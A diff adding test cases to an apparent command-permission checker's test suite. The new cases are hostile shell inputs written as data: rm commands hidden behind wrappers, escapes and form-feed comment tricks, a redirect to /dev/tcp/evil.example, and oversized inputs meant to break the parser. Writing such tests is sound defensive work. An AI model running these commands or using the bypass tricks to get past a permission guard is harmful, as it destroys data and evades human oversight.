@@ -99,6 +99,14 @@ describe('commands against allow rules', () => {
     ['git commit -m "a; rm -rf ~"', 'allow'],
     ["git commit -m 'a && rm -rf ~'", 'allow'],
     ['git commit -m "$(rm -rf ./build)"', 'ask'],
+    // Found in review: bash does not take \f or \v for blanks, so `\f#` is no comment.
+    ['git status \f#; rm -rf ./x', 'ask'],
+    ['git log\v#|evil', 'ask'],
+    ['git log >& /tmp/out', 'ask'],
+    ['git log >&/dev/tcp/evil.example/80', 'ask'],
+    ['git log >&2', 'allow'],
+    ['git log "${x:-`id`}"', 'ask'],
+    ["git log $'--all'", 'ask'],
   ])('%j → %s', (line, expected) => {
     expect(decide(gitOnly, cmd(line)).decision).toBe(expected);
   });
@@ -152,6 +160,26 @@ describe('commands against deny rules', () => {
     ['cat <<EOF | rm x\nbody\nEOF', 'deny'],
     ['time (rm x)', 'deny'],
     ['for f in a; do rm $f; done', 'deny'],
+    // Found in review: wrappers, option clusters, code in odd places.
+    ['env -S "rm x"', 'deny'],
+    ['env -iu X rm x', 'deny'],
+    ['sudo -iu root rm x', 'deny'],
+    ['busybox rm x', 'deny'],
+    ['coproc rm x', 'deny'],
+    ['runuser -u x -- rm x', 'deny'],
+    ['su -c "rm x" root', 'deny'],
+    ['flock /tmp/l -c "rm x"', 'deny'],
+    ['trap "rm x" EXIT', 'deny'],
+    ['watch "rm x"', 'deny'],
+    ['bash -o errexit -c "rm x"', 'deny'],
+    ['echo "${x:-`rm x`}"', 'deny'],
+    ['/bin/{rm,ls} x', 'deny'],
+    ["$'rm' x", 'deny'],
+    ["$'\\x72m' x", 'deny'],
+    ['pkexec rm x', 'deny'],
+    ['unshare -r rm x', 'deny'],
+    ['systemd-run --uid 0 rm x', 'deny'],
+    ['ls \f#; rm x', 'deny'],
     ['ls', 'allow'],
     ['echo "rm x"', 'allow'],
     ['ls rm', 'allow'],
@@ -265,6 +293,20 @@ describe('host names', () => {
   it('compares case-insensitively', () => {
     expect(decide({ mode: 'strict', allow: ['ask_agent(VPS-*)'] }, { tool: 'ask_agent', target: 'vps-audi' }).decision).toBe('allow');
     expect(decide({ mode: 'bypass', deny: ['connect(Prod-DB)'] }, { tool: 'connect', operation: 'exec', target: 'prod-db' }).decision).toBe('deny');
+  });
+});
+
+describe('hostile input', () => {
+  it.each([
+    ['a deep stack of wrappers', 'sudo '.repeat(4000) + 'ls'],
+    ['thousands of brace groups', 'cat ' + '{a,b}'.repeat(6000)],
+    ['a flood of heredocs', 'cat <<E' + ' <<E'.repeat(5000)],
+    ['a flood of pipes', 'ls|'.repeat(20_000) + 'id'],
+    ['deep nesting', '$('.repeat(3000) + 'ls' + ')'.repeat(3000)],
+    ['unbalanced everything', '"\'`$({[<'.repeat(2000)],
+  ])('%s gets a decision, never an exception or an allow by wildcard', (_what, line) => {
+    const d = decide({ mode: 'default', allow: ['execute_command(ls *)', 'execute_command(cat *)', 'execute_command(sudo *)'] }, cmd(line));
+    expect(['deny', 'ask']).toContain(d.decision);
   });
 });
 
